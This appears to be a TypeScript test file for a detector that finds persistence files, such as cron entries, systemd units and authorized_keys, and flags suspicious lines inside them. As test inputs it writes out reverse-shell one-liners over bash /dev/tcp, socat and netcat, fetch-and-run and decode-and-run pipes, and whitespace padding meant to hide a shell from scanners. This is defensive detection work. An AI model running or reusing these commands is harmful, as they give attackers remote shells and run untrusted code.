import { expect } from 'chai';
import { persistenceFiles, shapeOf } from '../../src/findings/persistence.ts';

describe('what starts by itself', () => {
  it('is known by its path', () => {
    for (const path of [
      '/etc/cron.d/x',
      '/etc/systemd/system/x.service',
      '/root/.ssh/authorized_keys',
      '/var/spool/cron/crontabs/jo',
    ])
      expect(persistenceFiles.test(path), path).to.equal(true);
    for (const path of ['/etc/passwd', '/srv/etc/cron.d/x', '/home/x'])
      expect(persistenceFiles.test(path), path).to.equal(false);
  });
  it('shows what no package does', () => {
    const what = (text: string): string | undefined => shapeOf(text)?.what;
    expect(what('a\nbash -i >& /dev/tcp/1.2.3.4/443 0>&1')).to.equal('a connection by the shell itself');
    expect(what('curl -s http://x/y | sudo bash')).to.equal('a script that is fetched and run');
    expect(what('echo x | base64 -d | sh')).to.equal('a script that is unpacked and run');
    expect(what('socat tcp:1.2.3.4:5 exec:/bin/sh')).to.equal('a shell over socat');
    expect(what('nc -e /bin/sh 1.2.3.4 5')).to.equal('a shell over netcat');
    expect(what('ExecStart=/dev/shm/.x')).to.equal('a program where anybody may write');
  });
  it('is found behind what is put before it to hide it', () => {
    const shell = 'bash -i >& /dev/tcp/198.51.100.9/443 0>&1';
    const what = (text: string): string | undefined => shapeOf(text)?.what;
    for (const text of [
      `x=/tmp/a\n${shell}`,
      `cat /var/lib/kubelet/pods/11111111-2222-3333-4444-555555555555/x\n${shell}`,
      `${' '.repeat(9000)}${shell}`,
      `${'\t '.repeat(200_000)}${shell}`,
      `: ${'a'.repeat(9000)}; ${shell}`,
      `${': a;'.repeat(20_000)}${shell}`,
    ])
      expect(what(text), text.slice(0, 40)).to.equal('a connection by the shell itself');
    expect(what('curl http://x \\\n  | sh')).to.equal('a script that is fetched and run');
    expect(shapeOf(`: ${'a'.repeat(9000)}; ${shell}`)?.line).to.contain('/dev/tcp/198.51.100.9');
  });
  it('leaves ordinary lines and comments alone', () => {
    for (const text of [
      '# curl x | sh',
      'curl -o /srv/x http://y',
      'test -x /usr/sbin/anacron || run-parts /etc/cron.daily',
      'nc -z host 80',
      'curl -o /srv/x http://y; sh z',
      'curl http://y; echo x | sh',
      'tar c /var | base64 -w0',
    ])
      expect(shapeOf(text), text).to.equal(undefined);
  });
  it('ends soon on lines made to take long', () => {
    for (const piece of ['curl ', 'nc -', 'socat exec:', 'base64 -d ', 'python socket ', '/tmp/', 'sh curl '])
      expect(() => shapeOf(piece.repeat(100_000))).not.to.throw();
  }).timeout(4000);
});
